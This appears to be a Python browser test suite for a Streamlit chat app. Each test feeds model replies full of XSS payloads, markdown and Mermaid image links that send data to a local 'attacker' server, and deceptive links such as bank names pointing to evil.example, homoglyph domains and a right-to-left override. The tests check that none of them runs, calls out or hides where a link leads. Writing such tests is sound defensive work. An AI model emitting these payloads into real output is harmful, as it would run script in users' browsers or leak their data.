"""Attacks on the reader by a model, or by the authors of its sources, in a real browser.

An attacker's server counts its requests. The tests click nothing, because drawing alone must be
harmless.
"""

import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser import OpenPage, ask, expect_answer, messages
from tests.conftest import ROOT, RunningApp, wait_until
from tests.servers.endpoint import FakeEndpoint, Reply

pytestmark = [pytest.mark.browser, pytest.mark.timeout(180)]

SCRIPTS = [
    "<script>window.harmed = 1</script>",
    "<img src=x onerror='window.harmed = 2'>",
    "<svg onload='window.harmed = 3'></svg>",
    "<iframe srcdoc='<script>parent.harmed = 4</script>'></iframe>",
    "<details open ontoggle='window.harmed = 5'>x</details>",
    "<style>*{animation:x}@keyframes x{}</style><b onanimationstart='window.harmed = 6'>x</b>",
    "[a](javascript:window.harmed=7) <javascript:window.harmed=8>",
    "[b](data:text/html,<script>window.harmed=9</script>)",
    "![c](javascript:window.harmed=10)",
    "$\\href{javascript:window.harmed=11}{x}$ $\\html{<img src=x onerror=window.harmed=12>}$",
    "```html\n<script>window.harmed = 13</script>\n```",
    "| a |\n|---|\n| <img src=x onerror='window.harmed = 14'> |",
    "<base href='{attacker}/base/'>",
    "<meta http-equiv=refresh content='0;url={attacker}/refresh'>",
    "<form action='{attacker}/form'><input autofocus onfocus='window.harmed = 15'></form>",
    ":material/<img src=x onerror=alert(1)>: :red[<script>alert(1)</script>]",
]
LEAKS = [
    "![leak]({attacker}/inline?secret)",
    "![leak][far]\n\n[far]: {attacker}/reference?secret",
    "[![leak]({attacker}/linked)]({attacker}/link)",
    "<img src={attacker}/html>",
    "<link rel=stylesheet href={attacker}/style>",
    "<style>@import '{attacker}/import'; body { background: url({attacker}/url) }</style>",
    "<video src={attacker}/video autoplay></video><audio src={attacker}/audio autoplay></audio>",
    "<object data={attacker}/object></object><embed src={attacker}/embed>",
    "$\\includegraphics{{attacker}/maths}$",
    "> ![quoted]({attacker}/quoted)\n\n* ![listed]({attacker}/listed)",
    "| a |\n|---|\n| ![cell]({attacker}/cell) |",
    "![split\nover lines]({attacker}/lines 'title')",
    "!![leak]({attacker}/twice) !!![leak]({attacker}/thrice)",
    "https://example.org/!![leak]({attacker}/address)",
    # To Streamlit, what is in quotes here belongs to a directive within the image's name.
    """![x:a{b="](data:image/png;base64,AAAA)"}]({attacker}/named?secret)""",
    """![x:a{b='](data:image/png;base64,AAAA)'}]({attacker}/named2)""",
    """![x:a{b="](data:image/png;base64,AAAA)"}][further]\n\n[further]: {attacker}/named3""",
    "<picture><source srcset={attacker}/srcset><img></picture>",
    *(
        leak.replace("{image}", """flowchart LR\n  A@{ img: "{attacker}/diagram", label: "x", """)
        .replace("{size}", """pos: "t", w: 60, h: 60, constraint: "off" }\n""")
        .replace("{style}", "flowchart LR\n  A-->B\n  style A fill:url({attacker}/style)\n")
        for leak in (
            "```mermaid\n{image}{size}```",
            "~~~~ Mermaid\n{image}{size}~~~~",
            "```m&#101;rmaid\n{image}{size}```",
            "```-language-mermaid\n{image}{size}```",
            "- ```mermaid\n  flowchart LR\n"
            "  A@{ img: '{attacker}/listed', pos: 't', w: 60, h: 60 }\n  ```",
            "> ```mermaid\n> flowchart LR\n"
            "> A@{ img: '{attacker}/quoted', pos: 't', w: 60, h: 60 }\n> ```",
            "```mermaid\n{style}```",
            "```mermaid\nsequenceDiagram\nrect url({attacker}/rect)\nA->>B: x\nend\n```",
        )
    ),
]
IN_A_NOTE = """[^1]: See

    ```mermaid
    flowchart LR
    A@{ img: "{attacker}/noted", label: "x", pos: "t", w: 60, h: 60, constraint: "off" }
    ```
"""
"""Last of all, for from a note on everything is one piece."""

NO_LINK_TO_ANYTHING_ELSE = """() => Array.from(document.querySelectorAll('a[href]')).every(
    link => ['http:', 'https:', 'mailto:'].includes(link.protocol))"""
EACH_LINK_SAYS_WHERE_IT_LEADS = """place => {
    const links = Array.from(document.querySelectorAll('[data-testid=stChatMessage] a[href]'));
    const said = link => link.textContent + getComputedStyle(link, '::after').content;
    return links.every(link => link.host !== place || said(link).includes(place));
}"""


@pytest.fixture
def attacker() -> Iterator["Attacker"]:
    server = Attacker()
    yield server
    server.stop()


class Attacker:
    """A web server that notes every visit."""

    def __init__(self) -> None:
        visits: list[str] = []
        self.visits = visits

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                visits.append(self.path)
                self.send_response(200)
                self.end_headers()

            def log_message(self, *_: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_port}"
        self._thread = threading.Thread(target=self._server.serve_forever, args=(0.05,))
        self._thread.start()

    def stop(self) -> None:
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()


def filled(payloads: list[str], attacker: Attacker) -> list[str]:
    return [payload.replace("{attacker}", attacker.url) for payload in payloads]


def expect_no_harm(page: Page, attacker: Attacker) -> None:
    assert page.evaluate("window.harmed") is None
    assert page.evaluate("document.querySelectorAll('base, iframe, object, embed').length") == 0
    page.wait_for_function(NO_LINK_TO_ANYTHING_ELSE)
    page.wait_for_function(EACH_LINK_SAYS_WHERE_IT_LEADS, arg=urlsplit(attacker.url).netloc)
    assert attacker.visits == []


@pytest.mark.parametrize("script", ["streamlit_app.py", "deploy/server.py"])
def test_no_text_runs_a_script_or_calls_home(
    script: str,
    run_app: Callable[..., RunningApp],
    endpoint: FakeEndpoint,
    attacker: Attacker,
    open_page: OpenPage,
) -> None:
    app = run_app(OPENAI_BASE_URL=endpoint.base_url)
    if script != app.script.name:
        app.stop()
        app.script = ROOT / script
        app.start()
    scripts, leaks = filled(SCRIPTS, attacker), filled(LEAKS, attacker)
    whole = "\n\n".join([*scripts, *leaks, "The end.[^1]", *filled([IN_A_NOTE], attacker)])
    # In pieces, because an unfinished text is drawn differently from a finished one.
    pieces = [whole[at : at + 40] for at in range(0, len(whole), 40)]
    endpoint.default_reply = Reply(pieces, seconds_between=0.02)
    page = open_page(app.url)
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
    questions = (f"{SCRIPTS[1]} ![title]({attacker.url}/title)", "\n\n".join(leaks))
    for number, question in enumerate(questions, 1):
        ask(page, question)
        expect(messages(page)).to_have_count(2 * number)
        expect(messages(page).last).to_contain_text("The end.")
        expect_answer(page, "The end.")
        expect_no_harm(page, attacker)
    page.reload()
    expect_answer(page, "The end.")
    expect(page.get_by_role("button", name="<img src=x")).to_be_visible()  # its title in the list
    page.get_by_role("button", name="Your data").click()
    expect(page.get_by_role("heading", name="Your data")).to_be_visible()
    page.get_by_role("button", name="Share a link", exact=True).click()
    address = page.locator("text=/\\?share=[0-9a-f]{32}$/").inner_text()
    expect_no_harm(page, attacker)
    page.goto(address)
    expect(messages(page).last).to_contain_text("The end.")
    expect_no_harm(page, attacker)


def test_the_attackers_server_notices_whoever_comes(attacker: Attacker, chromium: Browser) -> None:
    """Or the test above could not fail."""
    page = chromium.new_page()
    page.set_content(f"<img src={attacker.url}/seen onerror='window.harmed = 1'>")
    wait_until(lambda: attacker.visits == ["/seen"])
    page.wait_for_function("window.harmed")
    page.close()


LINKS = {
    "[your bank](https://evil.example/a?b)": "your bank (evil.example)",
    "[https://bank.example](https://evil.example)": "https://bank.example (evil.example)",
    "[bank.example](https://bank.example@evil.example)": "bank.example (evil.example)",
    "[b\u0430nk.example](https://b\u0430nk.example)": "b\u0430nk.example (xn--bnk-6cd.example)",
    "https://evil.example/a?b": "https://evil.example/a?b",
    "[evil.example](https://evil.example/a)": "evil.example",
    "[ask us](mailto:a@evil.example)": "ask us (a@evil.example)",
    "[ask us](mailto:?to=b@evil.example)": "ask us (?to=b@evil.example)",
    "[a@bank.example](mailto:a@bank.example?bcc=c@evil.example)": (
        "a@bank.example (a@bank.example?bcc=c@evil.example)"
    ),
    "[a@bank.example](mailto:a@bank.example)": "a@bank.example",
    "[here](/?c=1)": "here",
}
AS_SEEN = """() => Array.from(
    document.querySelectorAll('[data-testid=stChatMessage] a[href]'), link => link.textContent
        + getComputedStyle(link, '::after').content.replace(/^none$|^"|"$/g, ''))"""


def test_where_a_link_leads_is_said_behind_it(
    app: RunningApp, endpoint: FakeEndpoint, open_page: OpenPage
) -> None:
    endpoint.default_reply = Reply(["\n\n".join([*LINKS, "The end."])])
    page = open_page(app.url)
    ask(page, "Hi")
    expect_answer(page, "The end.")
    wait_until(lambda: page.evaluate(AS_SEEN) == list(LINKS.values()))


def test_no_mark_in_the_words_of_a_link_turns_its_place_around(
    app: RunningApp, endpoint: FakeEndpoint, open_page: OpenPage
) -> None:
    endpoint.default_reply = Reply(["\u202e[your bank](https://moc.knab.evil)"])
    page = open_page(app.url)
    ask(page, "Hi")
    link = page.get_by_role("link", name="your bank")
    expect(link).to_be_visible()
    # As it is drawn: an isolated part from left to right is laid out whatever is before it.
    style = link.evaluate("link => getComputedStyle(link, '::after')")
    assert (style["unicodeBidi"], style["direction"]) == ("isolate", "ltr")
